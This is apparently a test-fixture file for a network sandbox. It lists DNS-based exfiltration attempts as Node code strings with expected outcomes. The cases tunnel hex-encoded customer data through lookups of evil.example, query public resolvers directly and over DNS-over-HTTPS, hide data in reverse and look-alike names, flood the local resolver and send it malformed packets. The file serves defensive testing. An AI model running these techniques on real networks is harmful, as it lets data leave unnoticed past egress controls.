import { leavesMachine, type Attack } from '../attack.ts'

/** Out by the name server: data in names, other servers, other transports. */
export const nameAttacks: readonly Attack[] = [
  {
    name: 'tunnels data through names, as text and as addresses',
    by: 'node',
    program: `const data = Buffer.from('customer 42 ' + range.mark).toString('hex').slice(0, 60)
await attempt('text', () => dns.resolveTxt(data + '.t.evil.example'))
await attempt('mail', () => dns.resolveMx('mx.evil.example'))
await attempt('address', () => dns.resolve4('a-' + data.slice(0, 40) + '.evil.example').then(() => 'invented'))
await attempt('six', () => dns.resolve6('six.evil.example'))
await attempt('service', () => dns.resolveSrv('_ldap._tcp.evil.example'))
await attempt('any', () => dns.resolveAny('any.evil.example').then(() => 'invented'))`,
    hears: { text: 'ENODATA', mail: 'ENODATA', six: 'ENODATA' },
    seen: [
      /^lookup [0-9a-f]{60}\.t\.evil\.example$/,
      'lookup mx.evil.example',
      /^lookup a-[0-9a-f]{40}\.evil\.example$/,
      'lookup six.evil.example',
      'lookup _ldap._tcp.evil.example',
    ],
    control: leavesMachine,
  },
  {
    name: 'packs data into the longest names, and into thousands of them',
    by: 'node',
    program: `const label = 'x'.repeat(60)
await attempt('long', () => dns.resolve4([label, label, label, 'long.evil.example'].join('.')).then(() => 'invented'))
const socket = dgram.createSocket('udp4')
socket.on('error', () => {})
let answers = 0
socket.on('message', () => { answers++ })
const query = (name, i) => Buffer.concat([Buffer.from([i >> 8, i & 255, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), ...name.split('.').map((one) => Buffer.from([one.length, ...Buffer.from(one)])), Buffer.from([0, 0, 1, 0, 1])])
for (let i = 0; i < 9000; i++) { socket.send(query('n' + i + '.flood.example', i), 53, '127.0.0.1'); if (i % 200 === 0) await wait(5) }
await wait(500)
said.flood = answers > 100 ? 'answered' : 'not answered: ' + answers
await attempt('after', () => dns.resolve4('okta-emea.slack.com').then(() => 'known', codeOf))`,
    hears: { long: 'invented', flood: 'answered' },
    seen: [/^lookup x{60}\.x{60}\.x{60}\.long\.evil\.example$/, /^not listed: \d+ more attempts$/],
    control: leavesMachine,
  },
  {
    name: 'asks name servers of its own choice: by UDP, TCP, TLS and HTTPS',
    by: 'node',
    program: `const query = Buffer.concat([Buffer.from([0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), Buffer.from([6]), Buffer.from('direct'), Buffer.from([4]), Buffer.from('evil'), Buffer.from([7]), Buffer.from('example'), Buffer.from([0, 0, 16, 0, 1])])
await attempt('udp', () => udp('8.8.8.8', 53, query))
await attempt('tcp', () => tcp({ host: '8.8.4.4', port: 53 }, Buffer.concat([Buffer.from([0, query.length]), query])))
await attempt('own tcp', () => tcp({ host: '127.0.0.1', port: 53 }))
await attempt('tls', () => tcp({ host: '1.1.1.1', port: 853 }))
const ask = (url, options) => fetch(url, { signal: AbortSignal.timeout(5000), ...options }).then((reply) => reply.status)
await attempt('https', () => ask('https://dns.google/resolve?name=secret.evil.example&type=TXT'))
await attempt('post', () => ask('https://cloudflare-dns.com/dns-query', { method: 'POST', body: query, headers: { 'content-type': 'application/dns-message' } }))
await attempt('address', () => ask('http://9.9.9.9/dns-query?dns=AAAB'))
const own = new dns.Resolver(); own.setServers(['8.8.8.8:5353'])
await attempt('port', () => Promise.race([own.resolve4('port.evil.example'), wait(1000, 'silence')]))`,
    hears: { tcp: 'ECONNRESET', tls: 'ECONNRESET', https: 502, post: 502, address: 502 },
    seen: [
      'send udp://8.8.8.8:53',
      'lookup direct.evil.example',
      'connect tcp://8.8.4.4:53',
      'connect tcp://1.1.1.1:853',
      'GET https://dns.google/resolve?name=secret.evil.example&type=TXT',
      'POST https://cloudflare-dns.com/dns-query',
      'GET http://9.9.9.9/dns-query?dns=AAAB',
      'send udp://8.8.8.8:5353',
    ],
    control: leavesMachine,
  },
  {
    name: 'hides data in questions that look like those for its own names',
    by: 'node',
    program: `await attempt('reverse', () => dns.resolvePtr('customer-42.leak.127.in-addr.arpa'))
await attempt('reverse of names', () => dns.resolvePtr('customer-42.19.198.in-addr.arpa'))
await attempt('stranger', () => dns.reverse('203.0.113.77'))
await attempt('look-alike', () => dns.resolve4('slack.com.evil.example').then(() => 'invented'))
await attempt('case', () => dns.resolve4('SlAcK.CoM.EVIL.example').then(() => 'invented'))`,
    hears: { reverse: 'ENOTFOUND', stranger: 'ENOTFOUND', 'look-alike': 'invented' },
    seen: [
      'lookup customer-42.leak.127.in-addr.arpa',
      'lookup customer-42.19.198.in-addr.arpa',
      'lookup 77.113.0.203.in-addr.arpa',
      'lookup slack.com.evil.example',
    ],
    control: leavesMachine,
  },
  {
    name: 'sends its name server what is no question',
    by: 'node',
    program: `const ask = (bytes) => udp('127.0.0.1', 53, bytes)
const head = (questions, flags = 1) => [0, 9, flags, 0, 0, questions, 0, 0, 0, 0, 0, 0]
await attempt('two', () => ask(Buffer.from([...head(2), 1, 97, 0, 0, 1, 0, 1, 1, 98, 0, 0, 1, 0, 1])))
await attempt('none', () => ask(Buffer.from(head(0))))
await attempt('answer', () => ask(Buffer.from([...head(1, 0x81), 1, 97, 0, 0, 1, 0, 1])))
await attempt('loop', () => ask(Buffer.from([...head(1), 0xc0, 12, 0, 1, 0, 1])))
await attempt('cut', () => ask(Buffer.from([...head(1), 63, 97])))
await attempt('text', () => ask('customer 42 ' + range.mark))
await attempt('large', () => ask(Buffer.alloc(60000, 65)))
await attempt('chaos', () => ask(Buffer.from([...head(1), 7, ...Buffer.from('version'), 4, ...Buffer.from('bind'), 0, 0, 16, 0, 3])))`,
    hears: { two: 'sent', loop: 'sent', text: 'sent' },
    seen: ['send nonsense to the name server', 'lookup version.bind'],
    control: leavesMachine,
  },
]
